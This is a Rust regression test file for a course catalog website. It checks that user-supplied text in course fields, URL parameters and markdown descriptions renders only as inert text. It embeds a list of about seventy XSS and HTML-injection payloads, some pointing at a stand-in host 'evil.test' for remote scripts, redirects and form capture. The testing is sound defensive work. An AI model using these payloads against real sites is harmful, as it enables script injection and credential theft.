//! BF-10: what strangers write is text on every page, whatever it looks like.

use scraper::{Html, Selector};
use serde_json::{Value, json};

use crate::stub::{Stub, course};

/// Elements with the names of their attributes, in order: what markup a page has.
fn shape(page: &Html) -> Vec<String> {
    let all = Selector::parse("*").unwrap();
    page.select(&all)
        .map(|element| {
            let names: Vec<&str> = element.value().attrs().map(|(name, _)| name).collect();
            format!("{} {}", element.value().name(), names.join(" "))
        })
        .collect()
}

/// A catalog in which every text is this one, but for the description.
fn catalog(text: &str, description: &str) -> Stub {
    let mut hostile = course("rust", text);
    for field in ["subtitle", "instructor_name", "language", "updated_at"] {
        hostile[field] = json!(text);
    }
    hostile["updated_at"] = json!("2026-11-17T23:51:34.703Z");
    hostile["description_md"] = json!(description);
    hostile["outcomes"] = json!([text]);
    hostile["requirements"] = json!([text]);
    hostile["sections"] = json!([{"title": text, "lessons": [
        {"id": text, "title": text, "minutes": 1, "preview": true}]}]);
    hostile["price"]["currency"] = json!(text);
    hostile["list_price"]["currency"] = json!(text);
    let mut second = hostile.clone();
    second["id"] = json!(text);
    second["slug"] = json!(text);
    let category =
        |id: &str, slug: &str| json!({"id": id, "parent_id": Value::Null, "name": text, "slug": slug});
    Stub {
        categories: json!({"items": [category("c1", "design"), category("c2", text)]}),
        courses: vec![hostile, second.clone(), second],
        next_cursor: Some(text.to_owned()),
        ..Stub::default()
    }
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// CVE-2024-28855, CVE-2025-67495, BF-10.
#[tokio::test]
async fn no_payload_in_any_field_makes_an_element_or_an_attribute() {
    assert!(PAYLOADS.len() >= 60);
    let paths = ["/", "/courses", "/categories/design", "/courses/rust"];
    let plain = catalog("plain", "words").shop().await;
    let mut shapes = Vec::new();
    for path in paths {
        shapes.push(shape(&plain.get(path).await.page()));
    }
    for payload in PAYLOADS {
        let shop = catalog(payload, "words").shop().await;
        for (path, expected) in paths.iter().zip(&shapes) {
            let answer = shop.get(path).await;
            assert_eq!(&shape(&answer.page()), expected, "{path}: {payload}");
        }
        let said = shop.get("/courses/rust").await.texts("h1");
        assert_eq!(said, [payload.split_whitespace().collect::<Vec<_>>().join(" ")]);
    }
}

/// CVE-2019-8400, CVE-2026-29191, CVE-2026-33525, BF-10.
#[tokio::test]
async fn no_payload_in_an_address_makes_an_element_or_an_attribute() {
    let shop = Stub::default().shop().await;
    let search = shape(
        &shop
            .get("/courses?q=plain&category=plain&language=plain&cursor=plain")
            .await
            .page(),
    );
    let missing = shape(&shop.get("/nowhere?plain").await.page());
    for payload in PAYLOADS {
        let e = encoded(payload);
        let answer = shop
            .get(&format!("/courses?q={e}&category={e}&language={e}&cursor={e}"))
            .await;
        if !payload.contains(char::is_control) {
            assert_eq!(shape(&answer.page()), search, "{payload}");
        }
        assert_eq!(
            shape(&shop.get(&format!("/{e}?{e}")).await.page()),
            missing,
            "{payload}"
        );
        let slug = shop.get(&format!("/courses/{e}")).await;
        assert_eq!(shape(&slug.page()), missing, "{payload}");
    }
}

/// BF-10.
#[tokio::test]
async fn a_description_makes_only_the_elements_of_prose() {
    let plain = shape(
        &catalog("plain", "")
            .shop()
            .await
            .get("/courses/rust")
            .await
            .page(),
    );
    let inside = Selector::parse(".prose *").unwrap();
    for payload in PAYLOADS {
        for text in [
            (*payload).to_owned(),
            format!(
                "# {payload}\n\n- {payload}\n\n> {payload}\n\n[{payload}]({payload})\n\n![{payload}]({payload} '{payload}')\n\n[a]: {payload}\n[a]\n\n```{payload}\n{payload}"
            ),
        ] {
            let page = catalog("plain", &text)
                .shop()
                .await
                .get("/courses/rust")
                .await
                .page();
            let mut count = 0;
            for element in page.select(&inside) {
                count += 1;
                let name = element.value().name();
                let allowed = [
                    "p",
                    "em",
                    "strong",
                    "ul",
                    "ol",
                    "li",
                    "blockquote",
                    "code",
                    "pre",
                    "hr",
                    "br",
                    "h3",
                    "h4",
                    "a",
                ];
                assert!(allowed.contains(&name), "{name}: {text}");
                for (attribute, value) in element.value().attrs() {
                    let fine = name == "a"
                        && (attribute == "rel" || (attribute == "href" && value.starts_with("http")));
                    assert!(
                        fine || (name == "ol" && attribute == "start"),
                        "{attribute}={value}: {text}"
                    );
                }
            }
            // The rest of the page is as it was: nothing escaped from the prose.
            assert_eq!(shape(&page).len() - count, plain.len(), "{text}");
        }
    }
}

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.test/x.js></script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "\" onload=alert(1) x=\"",
    "x\" style=\"background:url(//evil.test)",
    "` onmouseover=`alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.test/x",
    "https://evil.test/\"onmouseover=alert(1)",
    "<form action=//evil.test><input name=password>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=//evil.test>x</button>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{display:none}</style>",
    "<div style=position:fixed;inset:0>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "{{ 7*7 }}{% include \"base.html\" %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "[x](javascript:alert(1))",
    "[x](https://evil.test \"onmouseover=alert(1)\")",
    "![x](x\"onerror=alert(1))",
    "<https://evil.test/\"onclick=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<\u{200b}script>alert(1)</script>",
];
